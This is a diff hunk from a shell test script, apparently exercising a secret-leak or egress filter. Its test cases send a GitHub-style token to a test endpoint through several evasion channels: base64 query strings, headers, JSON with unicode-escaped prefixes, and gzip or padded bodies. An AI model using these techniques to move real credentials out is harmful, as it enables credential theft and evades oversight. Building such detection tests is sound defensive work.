@@ -105,7 +105,7 @@ ask clear-base64 "$c/?q=$(printf 'xy%s' "$TOKEN" | base64 -w0)"
 ask clear-proxy -x http://10.255.255.1:3128 -H "x-token: $LOGIN" $c/
 ask clear-body -d "note=$TOKEN" $c/echo
 ask clear-body-json -H "$json" -d "{\"note\":\"\u0067hp_${TOKEN#ghp_}\"}" $c/echo
-(head -c 3000000 /dev/zero; printf 'note=%s' "$TOKEN") | gzip | ask clear-body-gzip --data-binary @- $c/echo
+(seq 300000; printf 'note=%s' "$TOKEN") | gzip | ask clear-body-gzip --data-binary @- $c/echo
 printf 'note=%s' "${TOKEN%?}" | gzip | ask clear-gzip-control --data-binary @- $c/echo
 (head -c 3000000 /dev/zero | tr '\0' x; printf ' %s' "$LOGIN") | ask clear-body-deep -H 'content-type: text/plain' --data-binary @- $c/echo
 python3 - <<'X'
